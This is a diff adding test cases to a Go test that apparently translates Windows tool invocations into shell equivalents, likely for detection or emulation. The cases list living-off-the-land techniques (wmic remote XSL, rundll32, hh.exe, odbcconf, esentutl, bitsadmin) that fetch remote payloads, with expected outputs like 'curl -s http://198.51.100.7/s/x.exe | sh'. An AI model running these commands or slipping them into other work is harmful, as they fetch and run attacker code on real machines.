@@ -27,6 +27,17 @@ func TestWindowsToolLine(t *testing.T) {
 		{[]string{"sc", "create", "w", "binPath=", `C:\w\worker.exe`, "start=", "auto"}, "/mnt/c/w/worker.exe"},
 		{[]string{"sc", "query"}, ""},
 		{[]string{`\\198.51.100.7\s\x.exe`, "/S"}, "curl -s http://198.51.100.7/s/x.exe | sh"},
+		{[]string{"wmic", "os", "get", "/format:https://h.example/x.xsl"}, "curl -s https://h.example/x.xsl | sh"},
+		{[]string{"wmic", "os", "get", "/format:list"}, ""},
+		{[]string{"hh.exe", "https://h.example/x.chm"}, "curl -s https://h.example/x.chm | sh"},
+		{[]string{"ieexec", "http://h.example/a.exe"}, "curl -s http://h.example/a.exe | sh"},
+		{[]string{"rundll32", "url.dll,OpenURL", "https://h.example/x.hta"}, "curl -s https://h.example/x.hta | sh"},
+		{[]string{"rundll32", "url.dll,FileProtocolHandler", "https://h.example/docs"}, ""},
+		{[]string{"rundll32", "zipfldr.dll,RouteTheCall", `\\198.51.100.7\s\x.exe`}, "curl -s http://198.51.100.7/s/x.exe | sh"},
+		{[]string{"odbcconf", "/a", "{REGSVR", `\\198.51.100.7\s\x.dll}`}, "curl -s http://198.51.100.7/s/x.dll | sh"},
+		{[]string{"esentutl", "/y", `\\198.51.100.7\s\p.exe`, "/d", `C:\w\p.exe`, "/o"}, "curl -o /mnt/c/w/p.exe http://198.51.100.7/s/p.exe"},
+		{[]string{"expand", "a.cab", "b"}, ""},
+		{[]string{"bitsadmin", "/SetNotifyCmdLine", "j", `C:\w\p.exe`, "NUL"}, "/mnt/c/w/p.exe NUL"},
 	} {
 		if got := windowsToolLine(progName(tc.words[0]), tc.words); got != tc.want {
 			t.Errorf("windowsToolLine(%q) = %q, want %q", tc.words, got, tc.want)
